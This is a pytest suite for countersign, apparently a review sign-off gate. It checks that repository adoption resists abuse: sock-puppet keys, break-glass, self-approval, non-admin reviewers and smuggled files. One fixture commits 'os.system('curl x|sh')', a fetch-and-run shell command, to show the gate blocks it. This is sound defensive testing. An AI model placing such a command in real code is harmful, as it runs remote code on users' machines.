"""Adopting countersign: ``init``, edit the roster, ``adopt``, then the pull request in the
GitHub Action's emulated runner, on real repositories. The first roster is its author's word, so
the attacks come first: a sock puppet with the author's key, a break-glass, an administrator who
wrote the change, a reviewer GitHub does not call an administrator, extra files riding along,
and a later change that tries the adoption path again."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from actions_runner import environment, run_action
from fake_reviews import FakeReviews, fake_reviews

from countersign.main import main

ROOT = Path(__file__).parents[2]
ACTION = ROOT / "action.yml"
FIXTURES = ROOT / "tests" / "fixtures" / "github"
REPOSITORY = "Codertocat/Hello-World"
MAL = "Mallory <mallory@example.com>"


def cs(repo, *args: str) -> int:
    return main([*args, "-C", str(repo.path)])


def roster(ssh_keys, *extra: str) -> str:
    """The roster Mallory writes: herself, the repository's administrator (Ada) and anyone she
    adds; levels filled in by her."""
    people = [
        "  - {id: mallory, emails: [mallory@example.com], level: junior, github: mal-dev}",
        "  - {id: ada, emails: [ada@example.com], level: principal, github: ada-admin}",
        "  - {id: walt, emails: [walt@example.com], level: principal, github: walt-writer}",
        *extra,
    ]
    text = "people:\n" + "\n".join(people) + "\nagents: [noreply@anthropic.com]\n"
    for name, key in ssh_keys.items():
        text = text.replace("{" + name + "}", key.public)
    return text


@pytest.fixture
def adopting(repo, ssh_keys, capsys):
    """A project with history and no countersign; Mallory runs init, writes the roster, adopts."""
    repo.write(".gitignore", ".countersign/ledger.db*\ncountersign.sarif\n")
    repo.commit("start", author="Ada <ada@example.com>", **{"app/main.py": "print('hi')\n"})
    repo.commit("work", author=MAL, **{"app/main.py": "print('hello')\n"})
    assert cs(repo, "init") == 0
    repo.write(".countersign/people.yaml", roster(ssh_keys))
    repo.git("config", "user.email", "mallory@example.com")
    repo.git("config", "user.name", "Mallory")
    capsys.readouterr()
    assert cs(repo, "adopt") == 0
    return repo


def test_adopt_commits_the_configuration_on_its_own_branch_and_says_who_signs_it(adopting, capsys):
    cs(adopting, "adopt")
    out = capsys.readouterr().out
    assert adopting.git("rev-parse", "--abbrev-ref", "HEAD") == "countersign-adopt"
    files = adopting.git("diff", "--name-only", "main...HEAD").splitlines()
    assert files
    assert all(f.startswith(".countersign/") for f in files)
    assert ".countersign/ledger.db" not in files
    assert "adoption/approvals" in out
    assert "A repository administrator who did not make this change approves it on GitHub" in out
    assert "ada (github: ada-admin)" in out
    assert "mallory (github" not in out  # she runs adopt: she cannot be its reviewer
    assert cs(adopting, "check") == 1
    out = capsys.readouterr().out
    assert "adoption/approvals: 1 approval, by a repository administrator on GitHub" in out
    assert "approves the pull request on GitHub" in out
    assert "policy-change" not in out.split("Requirements:")[1]


def test_adopt_refuses_a_branch_that_already_has_a_roster(adopting, capsys):
    adopting.git("checkout", "-q", "main")
    adopting.git("merge", "-q", "--no-ff", "-m", "merge", "countersign-adopt")
    capsys.readouterr()
    assert cs(adopting, "adopt") == 3
    err = capsys.readouterr().err
    assert "main already has .countersign/people.yaml: countersign is adopted there" in err


def test_adopt_refuses_a_roster_the_gate_would_reject_and_one_naming_no_github_login(repo, capsys):
    repo.commit("start", **{"a.py": "a\n"})
    repo.write(".countersign/people.yaml", "people:\n  - {id: x, levle: senior}\n")
    assert cs(repo, "adopt") == 3
    captured = capsys.readouterr()
    assert "error: people.yaml: people[0].levle: unknown field 'levle'" in captured.out
    repo.write(".countersign/people.yaml", "people:\n  - {id: x, level: senior}\n")
    assert cs(repo, "adopt") == 3
    assert "gives nobody but you a `github:` login" in capsys.readouterr().err
    assert repo.git("rev-parse", "--abbrev-ref", "HEAD") == "main"


def test_no_key_in_the_new_roster_signs_the_adoption_not_even_a_principal_sock_puppet(
    adopting, ssh_keys, capsys
):
    # Mallory adds "dave", a principal whose key is hers, and signs as him
    adopting.write(
        ".countersign/people.yaml",
        roster(
            ssh_keys,
            '  - {id: dave, emails: [dave@example.com], level: principal, keys: ["{mallory}"]}',
        ),
    )
    adopting.commit("add dave", author=MAL)
    capsys.readouterr()
    key = str(ssh_keys["mallory"].path)
    assert cs(adopting, "approve", "--key", key) == 3
    assert "this change adopts countersign" in capsys.readouterr().err
    assert cs(adopting, "break-glass", "--key", key, "--reason", "r", "--incident", "I-1") == 3
    assert "no key in it proves anyone" in capsys.readouterr().err
    assert cs(adopting, "check") == 1


def test_an_adoption_carrying_other_files_is_blocked_and_no_break_glass_lifts_that(
    adopting, capsys
):
    adopting.commit("sneak", author=MAL, **{"app/main.py": "import os; os.system('curl x|sh')\n"})
    capsys.readouterr()
    assert cs(adopting, "check") == 2
    out = capsys.readouterr().out
    assert "An adoption change may only add .countersign/" in out


# --- the pull request, in the Action's emulated runner ---------------------------------------


def event(repo, tmp_path: Path, name: str, base: str = "main", **review: object) -> Path:
    data = json.loads((FIXTURES / f"{name}.json").read_text("utf-8"))
    pr = data["pull_request"]
    pr["base"]["sha"] = repo.git("rev-parse", base)
    pr["head"]["sha"] = repo.git("rev-parse", "HEAD")
    pr["head"]["ref"] = repo.git("rev-parse", "--abbrev-ref", "HEAD")
    pr["user"]["login"] = "mal-dev"
    if "review" in data:
        data["review"].update({"commit_id": pr["head"]["sha"], "state": "approved", **review})
    path = tmp_path / f"{name}.{len(list(tmp_path.glob('*.event.json')))}.event.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def job(repo, tmp_path: Path, name: str, path: Path, api: FakeReviews | None = None):
    temp = tmp_path / "runner-temp"
    temp.mkdir(exist_ok=True)
    env = {**environment(), "HOME": str(tmp_path), "GITHUB_REPOSITORY": REPOSITORY}
    env["PATH"] = f"{Path(sys.executable).parent}:{env.get('PATH', '')}"
    inputs = {"install": "false", "upload-sarif": "false"}
    if api is not None:
        data = json.loads(path.read_text("utf-8"))
        api.add(REPOSITORY, 2, {**data["review"], "state": "APPROVED"})
        env["GITHUB_API_URL"] = api.url
        inputs["token"] = api.token
    return run_action(
        ACTION,
        workspace=repo.path,
        event_name=name,
        event_path=path,
        inputs=inputs,
        env=env,
        temp=temp,
    )


def review(repo, tmp_path: Path, api: FakeReviews, login: str, review_id: int):
    path = event(
        repo,
        tmp_path,
        "pull_request_review.submitted",
        id=review_id,
        user={"login": login},
    )
    return job(repo, tmp_path, "pull_request_review", path, api)


def test_an_administrators_review_confirmed_by_github_turns_the_adoption_green(
    adopting, tmp_path, capsys
):
    opened = job(
        adopting, tmp_path, "pull_request", event(adopting, tmp_path, "pull_request.opened")
    )
    assert opened.outputs["verdict"] == "needs-approval"
    assert [m["id"] for m in json.loads(opened.outputs["missing"])] == ["adoption/approvals"]
    with fake_reviews() as api:
        api.grant(REPOSITORY, "ada-admin", "admin")
        done = review(adopting, tmp_path, api, "ada-admin", 11)
        asked = list(api.asked)
    assert done.failed is None, done.summary
    recorded = done.step("Record the review as a sign-off").stdout
    assert "as ada (GitHub review), identity forge" in recorded
    assert "repository permission admin" in recorded
    assert any(p.endswith("/collaborators/ada-admin/permission") for p in asked)
    assert done.outputs["verdict"] == "pass"
    assert cs(adopting, "status") == 0
    out = capsys.readouterr().out
    assert "ada (forge) at " in out
    assert "counts for adoption/approvals" in out


def test_a_principal_in_the_new_roster_who_is_no_administrator_does_not_count(adopting, tmp_path):
    with fake_reviews() as api:
        api.grant(REPOSITORY, "walt-writer", "maintain")  # write access, not admin
        done = review(adopting, tmp_path, api, "walt-writer", 12)
    assert done.outputs["verdict"] == "needs-approval"
    assert "not a repository administrator's review confirmed by GitHub" in done.summary


def test_a_review_github_did_not_confirm_does_not_count_even_from_an_administrator(
    adopting, tmp_path
):
    # no API to ask (no token): the event file alone says who reviewed
    path = event(
        adopting, tmp_path, "pull_request_review.submitted", id=13, user={"login": "ada-admin"}
    )
    done = job(adopting, tmp_path, "pull_request_review", path)
    assert done.outputs["verdict"] == "needs-approval"


def test_an_administrator_who_made_the_change_cannot_sign_it_off(adopting, tmp_path):
    adopting.commit("tweak", author="Ada <ada@example.com>", **{".countersign/x.txt": "x\n"})
    with fake_reviews() as api:
        api.grant(REPOSITORY, "ada-admin", "admin")
        done = review(adopting, tmp_path, api, "ada-admin", 14)
    assert "ada is an author of this change; no self-approval" in done.summary
    assert done.outputs["verdict"] == "needs-approval"


def test_once_adopted_no_later_change_takes_the_adoption_path(adopting, tmp_path, ssh_keys):
    with fake_reviews() as api:
        api.grant(REPOSITORY, "ada-admin", "admin")
        assert review(adopting, tmp_path, api, "ada-admin", 15).outputs["verdict"] == "pass"
    adopting.git("checkout", "-q", "main")
    adopting.git("merge", "-q", "--no-ff", "-m", "Merge countersign-adopt", "countersign-adopt")
    # the release holding the adoption passes the deploy gate: it was signed off as reviewed
    assert cs(adopting, "verify", "--base", "main~1") == 0
    # Mallory now makes herself principal; an administrator's review is no longer enough by
    # itself: the roster on main judges it (policy-change: a principal from that roster)
    adopting.git("checkout", "-q", "-b", "promote")
    adopting.commit(
        "promote mallory",
        author=MAL,
        **{
            ".countersign/people.yaml": roster(ssh_keys).replace(
                "level: junior", "level: principal"
            )
        },
    )
    with fake_reviews() as api:
        api.grant(REPOSITORY, "walt-writer", "admin")
        # after the adoption, reviews are confirmed by the GitHub main's policy pins
        adopting.git("checkout", "-q", "main")
        policy = (adopting.path / ".countersign" / "policy.yaml").read_text()
        pin = f"\nforge:\n  repository: {REPOSITORY}\n  api: {api.url}\n"
        adopting.commit("pin the forge", **{".countersign/policy.yaml": policy + pin})
        adopting.git("checkout", "-q", "promote")
        done = review(adopting, tmp_path, api, "walt-writer", 16)
    recorded = done.step("Record the review as a sign-off").stdout
    assert "repository permission" not in recorded  # GitHub was not asked: not an adoption
    assert done.outputs["verdict"] == "pass"  # walt is a principal on main: a normal sign-off
    missing = json.loads(
        job(
            adopting, tmp_path, "pull_request", event(adopting, tmp_path, "pull_request.opened")
        ).outputs["missing"]
    )
    assert missing == []


def test_a_later_change_that_removes_the_roster_is_judged_by_it_not_adopted(
    adopting, tmp_path, capsys
):
    adopting.git("checkout", "-q", "main")
    adopting.git("merge", "-q", "--no-ff", "-m", "Merge countersign-adopt", "countersign-adopt")
    adopting.git("checkout", "-q", "-b", "replace-roster")
    adopting.git("rm", "-q", ".countersign/people.yaml")
    adopting.commit("drop roster", author=MAL)
    adopting.commit(
        "new roster",
        author=MAL,
        **{
            ".countersign/people.yaml": "people:\n  - {id: m2, emails: [m@x.example], level: principal, github: mal-dev}\n"
        },
    )
    capsys.readouterr()
    assert cs(adopting, "check") == 1
    out = capsys.readouterr().out
    assert "policy-change/approvals" in out
    assert "adoption" not in out.split("Requirements:")[1]


def test_a_patch_file_never_adopts(adopting, tmp_path, capsys):
    patch = tmp_path / "adopt.patch"
    patch.write_text(adopting.git("diff", "main...HEAD") + "\n", encoding="utf-8")
    adopting.git("checkout", "-q", "main")
    capsys.readouterr()
    cs(adopting, "check", "--patch", str(patch))
    out = capsys.readouterr().out
    assert "adoption/approvals" not in out
    assert "policy-change/approvals" in out


def test_adopt_takes_the_staged_ci_set_up_and_refuses_any_other_staged_file(repo, ssh_keys, capsys):
    repo.commit("start", **{"app.py": "a\n"})
    repo.write(".countersign/people.yaml", roster(ssh_keys))
    repo.write(".github/workflows/countersign.yml", "on: pull_request\njobs: {}\n")
    repo.write("app.py", "b\n")
    repo.git("add", ".github/workflows/countersign.yml", "app.py")
    assert cs(repo, "adopt") == 3
    assert "other files are staged (app.py)" in capsys.readouterr().err
    assert repo.git("rev-parse", "--abbrev-ref", "HEAD") == "main"  # nothing done yet
    repo.git("reset", "-q", "app.py")
    assert cs(repo, "adopt") == 0
    files = repo.git("diff", "--name-only", "main...HEAD").splitlines()
    assert files == [".countersign/people.yaml", ".github/workflows/countersign.yml"]
